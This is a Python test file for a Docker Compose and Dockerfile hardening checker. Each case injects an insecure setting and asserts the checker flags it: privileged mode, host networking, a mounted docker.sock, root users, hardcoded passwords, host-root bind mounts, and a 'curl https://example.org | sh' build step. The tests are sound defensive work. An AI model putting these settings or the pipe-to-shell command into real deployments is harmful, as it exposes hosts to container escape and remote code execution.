"""What every container of the full stack must hold to, read in its files; each rule is seen to bite."""

import copy

import compose_files
import pytest

STACK = compose_files.load()
DOCKERFILE = compose_files.DOCKERFILE.read_text()
DATABASE_URL = "postgresql://asl:hunter2@postgres:5432/asl"


def test_no_container_can_do_more_than_it_must():
    assert len(STACK["services"]) == 13
    assert compose_files.faults(STACK) == []


def test_images_are_made_of_what_is_named_and_run_as_nobody():
    assert compose_files.dockerfile_faults(DOCKERFILE) == []


@pytest.mark.parametrize(
    ("service", "change"),
    [
        ("worker-cpu", {"privileged": True}),
        ("worker-gpu", {"devices": ["/dev/sda"]}),
        ("gateway", {"pid": "host"}),
        ("gateway", {"network_mode": "host"}),
        ("nginx", {"network_mode": "host"}),
        ("redis", {"extra_hosts": ["engine:host-gateway"]}),
        ("redis", {"sysctls": {"net.ipv4.ip_forward": 1}}),
        ("redis", {"read_only": False}),
        ("postgres", {"cap_drop": []}),
        ("postgres", {"cap_add": ["NET_ADMIN"]}),
        ("minio-volume", {"cap_add": ["CHOWN", "SYS_ADMIN"]}),
        ("minio-volume", {"network_mode": "bridge"}),
        ("minio", {"security_opt": []}),
        ("minio", {"security_opt": ["no-new-privileges:true", "seccomp:unconfined"]}),
        ("redis", {"user": "root"}),
        ("redis", {"user": None}),
        ("gateway", {"user": "0:0"}),
        ("nginx", {"image": "${NGINX_IMAGE:-nginx:latest}"}),
        ("postgres", {"image": "${POSTGRES_IMAGE:-postgres}"}),
        ("worker-cpu", {"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]}),
        ("worker-cpu", {"volumes": ["/:/host:ro"]}),
        ("nginx", {"volumes": ["./deploy/nginx/nginx.conf:/etc/nginx/nginx.conf"]}),
        ("worker-cpu", {"networks": ["data", "front"]}),
        ("gateway", {"networks": ["front", "edge", "data"]}),
        ("redis", {"ports": ["6379:6379"]}),
        ("nginx", {"ports": ["8000:8080"]}),
        ("grafana", {"profiles": None}),
        ("redis", {"mem_limit": None}),
        ("redis", {"pids_limit": 0}),
        ("redis", {"logging": {"driver": "json-file"}}),
        ("redis", {"tmpfs": ["/tmp"]}),  # noqa: S108 - a name, nothing is opened
        ("redis", {"healthcheck": {}}),
        ("migrate", {"restart": "always"}),
        ("gateway", {"depends_on": {"redis": {"condition": "service_started"}}}),
        ("postgres", {"environment": {"POSTGRES_PASSWORD": "hunter2"}}),
        ("migrate", {"environment": {"ASL_DATABASE_URL": DATABASE_URL}}),
        ("minio", {"environment": {"MINIO_ROOT_PASSWORD": "${MINIO_ROOT_PASSWORD:-changeme}"}}),
        ("redis", {"command": ["redis-server", "--requirepass", "${REDIS_PASSWORD-changeme}"]}),
        ("gateway", {"environment": {"ASL_REQUIRE_KEY": "false"}}),
        ("worker-gpu", {"deploy": {"replicas": 1}}),
        ("worker-cpu", {"deploy": {"resources": {"reservations": {"devices": [{"driver": "nvidia"}]}}}}),
    ],
    ids=lambda value: value if isinstance(value, str) else next(iter(value)),
)
def test_a_container_that_could_do_more_is_found(service, change):
    changed = copy.deepcopy(STACK)
    changed["services"][service] |= change
    changed["services"][service] = {
        key: value for key, value in changed["services"][service].items() if value is not None
    }
    assert [fault for fault in compose_files.faults(changed) if fault.startswith(f"{service}: ")]


@pytest.mark.parametrize(
    ("kind", "name", "options"),
    [
        ("networks", "data", {}),
        ("networks", "outside", {}),
        ("networks", "front", {"driver": "host"}),
        ("volumes", "redis", {"driver_opts": {"type": "none", "o": "bind", "device": "/"}}),
    ],
)
def test_a_way_out_beside_the_containers_is_found(kind, name, options):
    changed = copy.deepcopy(STACK)
    changed[kind][name] = options
    assert compose_files.faults(changed)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("USER 10001:10001\n", ""),
        ("USER 10001:10001", "USER root"),
        ("FROM bare AS gateway\n", "FROM bare AS gateway\nUSER root\n"),
        ("FROM bare AS gateway\n", "FROM python:latest AS gateway\n"),
        ("=python:3.11-slim-bookworm", "=python:latest"),
        ("=python:3.11-slim-bookworm", "=python"),
        ("EXPOSE 8000", "ENV ASL_API_KEY=hunter2"),
        ("ARG CODE_VERSION=unknown", "ARG REDIS_PASSWORD"),
        ("COPY deploy/images/slim.sh /", "ADD https://example.org/slim.sh /"),
        ("RUN python -m venv", "RUN curl https://example.org | sh && python -m venv"),
    ],
)
def test_an_image_that_could_do_more_is_found(old, new):
    assert old in DOCKERFILE
    assert compose_files.dockerfile_faults(DOCKERFILE.replace(old, new, 1))
